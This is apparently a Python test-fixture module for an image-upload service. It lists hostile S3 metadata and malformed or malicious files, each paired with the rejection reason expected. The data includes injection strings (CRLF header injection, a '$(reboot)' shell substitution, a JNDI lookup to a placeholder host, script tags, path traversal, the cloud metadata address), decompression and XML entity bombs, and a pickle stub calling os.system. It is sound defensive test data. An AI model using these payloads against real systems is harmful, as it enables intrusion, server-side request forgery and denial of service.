"""Hostile metadata, false sizes, and images that would expand without limit or never end."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Mapping
from types import MappingProxyType

METADATA: Mapping[str, Mapping[str, str]] = MappingProxyType(
    {
        "a subject of 2 KB": {"subject": "s" * 2041},
        "a subject of 2 KB of emoji, as S3 returns it": {
            "subject": "=?UTF-8?B?" + "8J+Zgg" * 338 + "?="
        },
        "a subject and 2 KB beside it": {"subject": "ann", "note": "n" * 2034},
        "500 names": {"subject": "ann", **{f"n{number}": "" for number in range(500)}},
        "no subject": {"note": "private-note"},
        "an empty subject": {"subject": ""},
        "a blank subject": {"subject": " "},
        "a subject with a newline": {"subject": "ann\nbob"},
        "a subject with a return": {"subject": "ann\r\nX-Amz-Meta-Subject: bob"},
        "a subject with a zero byte": {"subject": "ann\0bob"},
        "a subject for the terminal": {"subject": "\x1b[2Jann"},
        "a subject for a browser": {"subject": "<script>alert(1)</script>"},
        "a subject for a sheet": {"subject": "=HYPERLINK(1)"},
        "a subject for a shell": {"subject": "$(reboot)"},
        "a subject for a log": {"subject": "${jndi:ldap://somebody.example/a}"},
        "a subject that closes JSON": {"subject": '"}, {"outcome": "live'},
        "a subject that is JSON": {"subject": '{"S": "bob"}'},
        "a subject that is a path": {"subject": "../../bob"},
        "a subject that is an address": {"subject": "http://169.254.169.254/"},
        "a subject from right to left": {"subject": "\u202ebob"},
        "a subject of look-alikes": {"subject": "\u0430nn"},
        "a subject in Latin-1 bytes": {"subject": "\u00e3\u00a4"},
        "a subject like an expression": {"subject": ":token"},
        "a verdict": {"subject": "ann", "outcome": "live", "is_liveness": "true", "score": "100"},
        "fields": {"subject": "ann", "object": "s3://theirs/1", "version": "v9", "id": "1"},
        "attributes of the table": {"subject": "ann", "published_at": "2026", "lease_token": "me"},
        "a time to live": {"subject": "ann", "expires_at": "1"},
        "headers": {"subject": "ann", "content-type": "image/jpeg", "authorization": "TC3"},
        "a credential": {"subject": "ann", "token": "private-token", "secretkey": "private-key"},
        "a consent beside a subject": {"subject": "ann", "consent-id": "\x1b[2Jc-1"},
        "a reuse": {"subject": "ann", "reuse": "other_subject", "picture_digest": "00"},
        "Python's own": {"subject": "ann", "__class__": "Verdict", "self": "x"},
    }
)
"""By name: the object's metadata as S3 returns it."""

SIZES: Mapping[str, int] = MappingProxyType(
    {
        "one byte too many": 3_750_001,
        "4 MB": 4_000_000,
        "5 MB": 5_000_000,
        "5 MiB": 5 * 2**20,
        "6 MB": 6_000_000,
        "100 MB": 10**8,
        "2 GB less one": 2**31 - 1,
        "2 GB": 2**31,
        "4 GB": 2**32,
        "5 GB": 5 * 10**9,
        "5 GiB": 5 * 2**30,
        "5 TiB": 5 * 2**40,
        "the largest number of 64 bits": 2**63 - 1,
    }
)
"""By name: declared sizes in bytes that are too large; no byte needs to be read."""


# What follows an image's size; a file that ends there is truncated.
_REST = bytes(4096)
_SCAN = b"\xff\xda\0\x0c" + _REST


def _png(width: int, height: int, *chunks: bytes) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + b"".join(chunks) + _REST


def _chunk(kind: bytes, body: bytes) -> bytes:
    check = struct.pack(">I", zlib.crc32(kind + body))
    return struct.pack(">I", len(body)) + kind + body + check


def _segment(marker: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def _size_marker(width: int, height: int) -> bytes:
    return _segment(0xC0, struct.pack(">BHHB", 8, height, width, 3) + bytes(9)) + _SCAN


def _jpeg(*segments: bytes) -> bytes:
    return b"\xff\xd8" + b"".join(segments)


def _bmp(width: int, height: int) -> bytes:
    return b"BM" + bytes(12) + struct.pack("<Iii", 40, width, height) + bytes(64)


def _exif(ifd: bytes) -> bytes:
    return _segment(0xE1, b"Exif\0\0MM\0*\0\0\0\x08" + ifd)


# 16 MB of zeros in 16 KB, as deep as deflate goes.
_BOMB = zlib.compress(bytes(2**24), 9)
_SVG_BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><svg>&b;</svg>'
)
_RIGHT = _size_marker(300, 400)

REFUSED: Mapping[str, tuple[bytes, str]] = MappingProxyType(
    {
        "a PNG of 2**31 pixels squared": (
            _png(2**31 - 1, 2**31 - 1),
            "resolution_too_large",
        ),
        "a PNG of 30,000 by 40,000 that is a decompression bomb": (
            _png(30_000, 40_000, _chunk(b"IDAT", _BOMB)),
            "resolution_too_large",
        ),
        "a PNG of nothing": (_png(0, 0), "damaged_file"),
        "a PNG without width": (_png(0, 400), "damaged_file"),
        "a PNG of one pixel": (_png(1, 1), "resolution_too_small"),
        "a PNG of one pixel's width": (_png(1, 2000), "resolution_too_small"),
        "a PNG with sides of 32 bits": (_png(2**32 - 1, 2**32 - 1), "resolution_too_large"),
        "a PNG cut off": (_png(300, 400)[:20], "truncated_file"),
        "a JPEG of 65,535 squared": (_jpeg(_size_marker(65_535, 65_535)), "resolution_too_large"),
        "a JPEG of nothing": (_jpeg(_size_marker(0, 0)), "damaged_file"),
        "a JPEG of endless segments": (
            _jpeg(*[_segment(0xE2, bytes(65_000))] * 40),
            "metadata_too_large",
        ),
        "a JPEG of empty segments": (_jpeg(*[_segment(0xFE, b"")] * 300_000), "metadata_too_large"),
        "a JPEG of fill bytes": (_jpeg(b"\xff" * 2_000_000), "metadata_too_large"),
        "a JPEG of nothing but a start": (_jpeg(b"\xff"), "truncated_file"),
        "a JPEG whose segment reaches past the end": (
            _jpeg(b"\xff\xe1\xff\xff" + bytes(64)),
            "truncated_file",
        ),
        "a BMP of 2**31 pixels squared": (
            _bmp(2**31 - 1, 2**31 - 1),
            "resolution_too_large",
        ),
        "a BMP upside down and larger than 31 bits": (_bmp(300, -(2**31)), "resolution_too_large"),
        "a BMP of negative width": (_bmp(-300, 400), "damaged_file"),
        "a BMP of nothing": (_bmp(0, 0), "damaged_file"),
        "an SVG whose entities multiply": (_SVG_BOMB, "format_svg"),
        "an SVG that fetches": (
            b'<svg><image href="http://169.254.169.254/"/></svg>',
            "format_svg",
        ),
        "a zip of zips": (b"PK\x03\x04" + bytes(10) + _BOMB, "format_unknown"),
        "a gzip bomb": (b"\x1f\x8b\x08\0" + bytes(6) + _BOMB, "format_unknown"),
        "a deflate bomb": (_BOMB, "format_unknown"),
        "a page": (b"<html><script>alert(1)</script>", "format_text"),
        "a shell script": (b"#!/bin/sh\nreboot\n", "format_text"),
        "a program": (b"\x7fELF\x02\x01\x01" + bytes(64), "format_unknown"),
        "a program for Windows": (b"MZ\x90\0" + bytes(64), "format_unknown"),
        "a pickle": (b"\x80\x04\x95cos\nsystem\n", "format_unknown"),
        "a PDF that calls": (b"%PDF-1.7\n/OpenAction", "format_pdf"),
        "PostScript": (b"%!PS\n(/etc/passwd) (r) file", "format_text"),
        "a script for ImageMagick": (b"push graphic-context\nurl(http://a)", "format_text"),
        "a GIF with a JPEG's signature inside": (b"GIF89a\xff\xd8\xff" + bytes(64), "format_gif"),
        "a TIFF whose directory is itself": (b"II*\0\x08\0\0\0" + bytes(64), "format_tiff"),
        "a WebP with a false size": (
            b"RIFF\xff\xff\xff\xffWEBPVP8L" + bytes(16),
            "format_webp",
        ),
        "a HEIC of boxes in boxes": (b"\0\0\0\x18ftypheic" + bytes(64), "format_heic"),
        "nothing": (b"", "empty_file"),
        "a zero byte": (b"\0", "format_unknown"),
        "a megabyte of zero bytes": (bytes(2**20), "format_unknown"),
        "the start of a JPEG": (b"\xff\xd8", "truncated_file"),
    }
)
"""By name: files that are rejected, each with its reason."""

LET_THROUGH: Mapping[str, bytes] = MappingProxyType(
    {
        "a PNG whose pixels are a bomb": _png(300, 400, _chunk(b"IDAT", _BOMB)),
        "a PNG whose text is a bomb": _png(300, 400, _chunk(b"zTXt", b"a\0\0" + _BOMB)),
        "a PNG whose colour profile is a bomb": _png(300, 400, _chunk(b"iCCP", b"a\0\0" + _BOMB)),
        "a PNG whose chunk reaches past the end": _png(300, 400, b"\x7f\xff\xff\xffIDAT"),
        "a PNG with a page behind it": _png(300, 400, b"<script>alert(1)</script>"),
        "a PNG with a program behind it": _png(300, 400, b"PK\x03\x04" + bytes(64)),
        "a JPEG whose EXIF points to itself": _jpeg(
            _exif(b"\0\x01\x87\x69\0\x04\0\0\0\x01\0\0\0\x08\0\0\0\x08"), _RIGHT
        ),
        "a JPEG whose EXIF has 65,535 entries": _jpeg(_exif(b"\xff\xff" + bytes(64)), _RIGHT),
        "a JPEG whose EXIF points past the end": _jpeg(
            _segment(0xE1, b"Exif\0\0MM\0*\xff\xff\xff\xff"), _RIGHT
        ),
        "a JPEG whose EXIF is empty": _jpeg(_segment(0xE1, b"Exif\0\0"), _RIGHT),
        "a JPEG with orientation 65,535": _jpeg(
            _exif(b"\0\x01\x01\x12\0\x03\0\0\0\x01\xff\xff\0\0\0\0\0\0"), _RIGHT
        ),
        "a JPEG with a script for a comment": _jpeg(_segment(0xFE, b"<script>"), _RIGHT),
        "a JPEG with a page behind it": _jpeg(_RIGHT, b"<html>"),
        "a JPEG with 60 KB of comment": _jpeg(_segment(0xFE, bytes(60_000)), _RIGHT),
    }
)
"""By name: files whose first bytes are valid. Nothing of them is decompressed here."""
